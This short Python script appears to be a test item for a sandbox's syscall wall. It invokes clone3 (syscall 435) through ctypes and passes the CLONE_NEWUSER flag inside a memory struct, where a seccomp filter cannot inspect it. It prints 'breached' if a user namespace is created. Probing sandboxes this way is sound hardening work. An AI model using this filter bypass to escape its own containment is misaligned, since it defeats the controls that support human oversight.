"""Makes a user namespace by the call whose flags no filter can see.

walls: system_calls
success: the script prints breached
"""

import ctypes
import os

arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, 17)
pid = ctypes.CDLL(None).syscall(435, ctypes.byref(arguments), ctypes.c_size_t(64))
if pid == 0:
    os._exit(0)
if pid > 0:
    print("breached")
